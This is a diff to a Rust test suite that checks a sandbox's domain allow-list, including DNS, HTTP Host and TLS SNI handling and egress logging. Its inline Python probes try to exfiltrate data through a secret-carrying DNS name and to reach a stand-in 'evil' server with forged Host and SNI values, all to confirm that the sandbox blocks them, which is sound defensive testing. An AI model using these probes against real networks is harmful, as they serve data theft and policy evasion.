@@ -13,6 +13,8 @@ use common::{rand_token, run_bounded, sandbox_body, Daemon};
 use serde_json::{json, Value};
 
 const NET: &str = "203.0.113.10";
+/// Another server of the test internet, which no allowed name resolves to.
+const EVIL: &str = "203.0.113.20";
 
 /// The test's own namespace, link, routes and servers; removed on drop whatever happens.
 struct Internet {
@@ -49,6 +51,7 @@ impl Internet {
             vec!["ip", "netns", "exec", &ns, "ip", "link", "set", "lo", "up"],
             vec!["ip", "netns", "exec", &ns, "ip", "addr", "add", "203.0.113.10/24", "dev", &peer],
             vec!["ip", "netns", "exec", &ns, "ip", "addr", "add", "169.254.169.254/32", "dev", &peer],
+            vec!["ip", "netns", "exec", &ns, "ip", "addr", "add", "203.0.113.20/24", "dev", &peer],
             vec!["ip", "netns", "exec", &ns, "ip", "link", "set", &peer, "up"],
             vec!["ip", "netns", "exec", &ns, "ip", "route", "add", "default", "via", "203.0.113.1"],
             // The canary metadata address lives in our namespace, so a leak would land there.
@@ -58,9 +61,32 @@ impl Internet {
         }
         let fix = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/netfix.py");
         let log = me.log.display().to_string();
-        for (addr, logf) in [(NET, log.clone()), ("169.254.169.254", format!("{log}.meta"))] {
+        let (cert, key) = (me._dir.path().join("cert.pem"), me._dir.path().join("key.pem"));
+        let (cert, key) = (cert.display().to_string(), key.display().to_string());
+        assert!(
+            sh(&[
+                "openssl",
+                "req",
+                "-x509",
+                "-newkey",
+                "rsa:2048",
+                "-nodes",
+                "-subj",
+                "/CN=api.good.test",
+                "-days",
+                "1",
+                "-keyout",
+                &key,
+                "-out",
+                &cert,
+            ]),
+            "test certificate"
+        );
+        for (addr, logf) in
+            [(NET, log.clone()), ("169.254.169.254", format!("{log}.meta")), (EVIL, format!("{log}.evil"))]
+        {
             let mut c = Command::new("ip")
-                .args(["netns", "exec", &ns, "python3", fix, addr, &logf])
+                .args(["netns", "exec", &ns, "python3", fix, addr, &logf, &cert, &key])
                 .stdin(Stdio::piped())
                 .stdout(Stdio::piped())
                 .spawn()
@@ -79,6 +105,10 @@ impl Internet {
             .lines()
             .filter_map(|l| serde_json::from_str(l).ok())
             .collect()
+    }
+
+    fn evil_events(&self) -> String {
+        std::fs::read_to_string(format!("{}.evil", self.log.display())).unwrap_or_default()
     }
 
     fn meta_events(&self) -> String {
@@ -211,6 +241,46 @@ fn policies_are_enforced_on_the_host_side() {
     assert!(!out.contains("after:ok"), "the old connection kept working after deny-all: {out}");
     assert!(!inet.events().iter().any(|e| e["kind"] == "hold" && e["line"] == "second"), "a packet got through");
     assert!(http(&d, &all, "http://203.0.113.10:8080/").starts_with("blocked"), "new connections fail too");
+
+    // Domain allow-list: the name works (HTTP by Host, HTTPS by SNI); other names do not
+    // resolve and are never asked upstream; a forged Host/SNI towards another address fails.
+    let dom =
+        d.create(sandbox_body(json!({ "network": { "mode": "allow-list", "allow": ["api.good.test:8080,8443"] } })));
+    assert_eq!(http(&d, &dom, "http://api.good.test:8080/"), "200");
+    let tls = |host: &str, sni: &str| {
+        py(&d, &dom, &format!(
+            "import socket,ssl\nctx=ssl._create_unverified_context()\ntry:\n s=socket.create_connection(({host:?},8443),timeout=4)\n t=ctx.wrap_socket(s,server_hostname={sni:?})\n t.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n print(t.recv(100).split(b'\\r\\n')[0].decode())\nexcept Exception as e:\n print('blocked', type(e).__name__)"
+        ))
+    };
+    assert_eq!(tls("api.good.test", "api.good.test"), "HTTP/1.0 200 OK", "HTTPS by SNI");
+    let secret = format!("secret-data-{}.evil.test", rand_token(8));
+    assert!(resolve(&d, &dom, &secret).starts_with("nxdomain"));
+    assert!(
+        !inet.events().iter().any(|e| e["kind"] == "dns" && e["name"].as_str().unwrap_or_default().contains(&secret)),
+        "a denied name reached the upstream resolver (DNS exfiltration)"
+    );
+    let forged = py(&d, &dom, &format!(
+        "import socket\ntry:\n s=socket.create_connection(({EVIL:?},8080),timeout=4)\n s.sendall(b'GET / HTTP/1.1\\r\\nHost: api.good.test\\r\\n\\r\\n')\n print(s.recv(100) or b'closed')\nexcept Exception as e:\n print('blocked', type(e).__name__)"
+    ));
+    assert!(
+        forged.contains("closed") || forged.starts_with("blocked"),
+        "forged Host towards another address: {forged}"
+    );
+    assert!(tls(EVIL, "api.good.test").starts_with("blocked"), "forged SNI towards another address");
+    assert!(inet.evil_events().is_empty(), "the other server saw a connection: {}", inet.evil_events());
+    assert!(http(&d, &dom, "http://203.0.113.10:8081/").starts_with("blocked"), "ports outside the rule");
+    let (st, log) = d.get(&format!("/v1/sandboxes/{dom}/egress"));
+    assert_eq!(st, 200, "{log}");
+    let entries = log["entries"].as_array().cloned().unwrap_or_default();
+    let has = |kind: &str, name: &str, allowed: bool| {
+        entries.iter().any(|e| {
+            e["kind"] == kind && e["name"].as_str().unwrap_or_default().contains(name) && e["allowed"] == allowed
+        })
+    };
+    assert!(has("dns", "api.good.test", true), "{log}");
+    assert!(has("dns", &secret, false), "{log}");
+    assert!(has("tcp", "api.good.test", true), "{log}");
+    assert!(entries.iter().any(|e| e["kind"] == "tcp" && e["ip"] == EVIL && e["allowed"] == false), "{log}");
 
     // Bad policies are clear 400s.
     for bad in [
